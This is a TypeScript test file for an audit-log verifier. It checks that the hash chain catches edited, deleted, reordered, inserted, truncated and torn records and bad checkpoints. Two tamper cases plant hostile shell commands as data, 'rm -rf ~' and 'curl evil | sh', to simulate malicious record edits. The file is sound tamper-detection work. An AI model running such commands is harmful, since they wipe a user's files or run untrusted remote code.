import { appendFile, readFile, rm, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { AuditError, GENESIS_HASH, verifyAudit, type AuditVerification } from '../../../src-main/core/audit/index.js';
import { sealRecord } from '../../../src-main/core/audit/recordLine.js';
import { buildLog, hashOf, makeTempDir, readLines, reseal, writeLines, writeLog } from './auditFixtures.js';

let dir: string;
let cleanup: () => Promise<void>;
let logPath: string;
/** The six lines of an intact sample log, rewritten by each test. */
let lines: string[];

beforeEach(async () => {
  ({ dir, cleanup } = await makeTempDir());
  logPath = join(dir, 'audit.jsonl');
  await writeLog(logPath);
  lines = await readLines(logPath);
});
afterEach(() => cleanup());

function failure(result: AuditVerification): Extract<AuditVerification, { ok: false }> {
  if (result.ok) throw new Error(`expected a failure, got ${JSON.stringify(result)}`);
  return result;
}

describe('verifyAudit on intact logs', () => {
  it('reports the record count and the head hash', async () => {
    expect(await verifyAudit(logPath)).toEqual({ ok: true, records: 6, headSeq: 6, headHash: hashOf(lines[5] as string), checkpointLag: 0, sealing: expect.objectContaining({ keys: [], unsealed: null }), segments: [] });
  });

  it('accepts an empty log', async () => {
    await writeFile(logPath, '');
    await rm(`${logPath}.head`);
    expect(await verifyAudit(logPath)).toEqual({ ok: true, records: 0, headSeq: 0, headHash: GENESIS_HASH, checkpointLag: 0, sealing: expect.objectContaining({ keys: [], unsealed: null }), segments: [] });
  });

  it('accepts a last record that the checkpoint does not cover yet, and says so', async () => {
    await writeFile(`${logPath}.head`, JSON.stringify({ hash: hashOf(lines[4] as string), seq: 5, ts: (JSON.parse(lines[4] as string) as { ts: string }).ts }));
    expect(await verifyAudit(logPath)).toMatchObject({ ok: true, records: 6, checkpointLag: 1 });
  });

  it('accepts fields it does not know when the hash covers them', async () => {
    const extra = sealRecord({ event: 'APP_STOPPED', futureField: 'x' }, { seq: 7, ts: '2025-01-02T03:05:00.000Z', prevHash: hashOf(lines[5] as string) });
    await appendFile(logPath, extra.line);
    expect(await verifyAudit(logPath)).toMatchObject({ ok: true, records: 7, checkpointLag: 1 });
  });

  it('throws AUDIT_NOT_FOUND when neither the log nor its checkpoint exists', async () => {
    const missing = join(dir, 'nothing.jsonl');
    await expect(verifyAudit(missing)).rejects.toBeInstanceOf(AuditError);
    await expect(verifyAudit(missing)).rejects.toMatchObject({ code: 'AUDIT_NOT_FOUND' });
  });
});

describe('verifyAudit names the first bad record', () => {
  type Tamper = (lines: string[]) => string[] | Promise<string[]>;
  const cases: Array<[string, Tamper, { seq?: number; line: number; reason: string }, number]> = [
    ['an edited field', (l) => l.map((line, i) => (i === 3 ? line.replace('echo hi', 'echo HI') : line)), { seq: 4, line: 4, reason: 'EDITED' }, 3],
    ['an edited hash', (l) => l.map((line, i) => (i === 2 ? line.replace(hashOf(line), 'f'.repeat(64)) : line)), { seq: 3, line: 3, reason: 'EDITED' }, 2],
    ['a reformatted line with the same content', (l) => l.map((line, i) => (i === 1 ? line.replace('"seq":2', '"seq": 2') : line)), { seq: 2, line: 2, reason: 'EDITED' }, 1],
    ['a raw non-ASCII byte', (l) => l.map((line, i) => (i === 3 ? line.replace('echo hi', 'echo h\u00e9') : line)), { seq: 4, line: 4, reason: 'EDITED' }, 3],
    ['a record changed and re-hashed', (l) => l.map((line, i) => (i === 3 ? reseal(line, (r) => (r.command = 'rm -rf ~')) : line)), { seq: 5, line: 5, reason: 'BAD_PREV_HASH' }, 4],
    ['a first record linked to something other than genesis', (l) => l.map((line, i) => (i === 0 ? reseal(line, (r) => (r.prevHash = 'a'.repeat(64))) : line)), { seq: 1, line: 1, reason: 'BAD_PREV_HASH' }, 0],
    ['a deleted middle record', (l) => l.filter((_, i) => i !== 2), { seq: 4, line: 3, reason: 'DELETED' }, 2],
    ['a deleted first record', (l) => l.slice(1), { seq: 2, line: 1, reason: 'DELETED' }, 0],
    ['two swapped records', (l) => [l[0], l[1], l[3], l[2], l[4], l[5]] as string[], { seq: 4, line: 3, reason: 'REORDERED' }, 2],
    ['a record moved to the end', (l) => [l[0], l[2], l[3], l[4], l[5], l[1]] as string[], { seq: 3, line: 2, reason: 'REORDERED' }, 1],
    ['a seq rewritten and re-hashed', (l) => l.map((line, i) => (i === 3 ? reseal(line, (r) => (r.seq = 9)) : line)), { seq: 9, line: 4, reason: 'SEQ_GAP' }, 3],
    [
      'an inserted record that forks the chain',
      (l) => [...l.slice(0, 3), reseal(l[3] as string, (r) => (r.command = 'curl evil | sh')), ...l.slice(3)],
      { seq: 4, line: 4, reason: 'INSERTED' },
      3,
    ],
    [
      'an inserted record with its own numbering',
      (l) => [...l.slice(0, 3), reseal(l[3] as string, (r) => Object.assign(r, { seq: 40, prevHash: 'b'.repeat(64) })), ...l.slice(3)],
      { seq: 40, line: 4, reason: 'INSERTED' },
      3,
    ],
    [
      'an inserted record with the next seq and a made-up link',
      (l) => [...l.slice(0, 3), reseal(l[3] as string, (r) => (r.prevHash = 'c'.repeat(64))), ...l.slice(3)],
      { seq: 4, line: 4, reason: 'INSERTED' },
      3,
    ],
    ['a duplicated record', (l) => [...l.slice(0, 3), l[2] as string, ...l.slice(3)], { seq: 3, line: 4, reason: 'INSERTED' }, 3],
    ['a line that is not JSON', (l) => l.map((line, i) => (i === 2 ? 'garbage' : line)), { line: 3, reason: 'MALFORMED' }, 2],
    ['an empty line', (l) => [...l.slice(0, 2), '', ...l.slice(2)], { line: 3, reason: 'MALFORMED' }, 2],
    ['a record without its hash', (l) => l.map((line, i) => (i === 1 ? line.replace(/"hash":"[0-9a-f]{64}",/, '') : line)), { line: 2, reason: 'MALFORMED' }, 1],
    ['records cut off the end', (l) => l.slice(0, 4), { seq: 5, line: 5, reason: 'TRUNCATED' }, 4],
  ];

  it.each(cases)('catches %s', async (_name, tamper, expected, verifiedBefore) => {
    await writeLines(logPath, await tamper([...lines]));
    const result = failure(await verifyAudit(logPath));
    expect(result.firstBad).toMatchObject(expected);
    if (expected.seq === undefined) expect(result.firstBad.seq).toBeUndefined();
    expect(result.records).toBe(verifiedBefore);
    expect(result.firstBad.message.length).toBeGreaterThan(10);
  });

  it('catches a torn last line', async () => {
    await appendFile(logPath, '{"event":"ENTRY_STA');
    const result = failure(await verifyAudit(logPath));
    expect(result.firstBad).toMatchObject({ line: 7, reason: 'TORN' });
    expect(result.records).toBe(6);
  });

  it('reports truncation rather than a torn line when checkpointed records are gone', async () => {
    await writeFile(logPath, `${lines.slice(0, 4).join('\n')}\n${(lines[4] as string).slice(0, 30)}`);
    expect(failure(await verifyAudit(logPath)).firstBad).toMatchObject({ seq: 5, line: 5, reason: 'TRUNCATED' });
  });

  it('catches a deleted log whose checkpoint remains', async () => {
    await rm(logPath);
    expect(failure(await verifyAudit(logPath))).toMatchObject({ records: 0, firstBad: { seq: 1, line: 1, reason: 'TRUNCATED' } });
  });

  it.each([
    ['names a different record', async () => writeFile(`${logPath}.head`, JSON.stringify({ hash: 'd'.repeat(64), seq: 6, ts: '2025-01-02T03:04:10.678Z' })), { seq: 6, line: 6 }],
    ['is not JSON', async () => writeFile(`${logPath}.head`, '{"seq":'), { line: 7 }],
    ['is missing for a log of several records', async () => rm(`${logPath}.head`), { line: 7 }],
    [
      'lags two records behind',
      async () => writeFile(`${logPath}.head`, JSON.stringify({ hash: hashOf(lines[3] as string), seq: 4, ts: (JSON.parse(lines[3] as string) as { ts: string }).ts })),
      { seq: 5, line: 5 },
    ],
  ])('catches a checkpoint that %s', async (_name, tamper, expected) => {
    await tamper();
    expect(failure(await verifyAudit(logPath)).firstBad).toMatchObject({ ...expected, reason: 'CHECKPOINT_MISMATCH' });
  });
});

describe('verifyAudit on logs larger than one read', () => {
  it('checks records across chunk boundaries and finds an edit deep in the file', async () => {
    const bigPath = join(dir, 'big.jsonl');
    // About 2.5 MB: several 1 MiB reads, with lines straddling their boundaries.
    const events = Array.from({ length: 4000 }, (_, i) => ({ event: 'ENTRY_STARTED' as const, entryId: `e${i}`, command: `printf '%s' ${'x'.repeat(500)} # ${i}` }));
    await buildLog(bigPath, events);
    expect(await verifyAudit(bigPath)).toMatchObject({ ok: true, records: 4000 });
    const text = await readFile(bigPath, 'latin1');
    await writeFile(bigPath, text.replace('# 3217"', '# 3218"'), 'latin1');
    expect(failure(await verifyAudit(bigPath)).firstBad).toMatchObject({ seq: 3218, line: 3218, reason: 'EDITED' });
  });
});
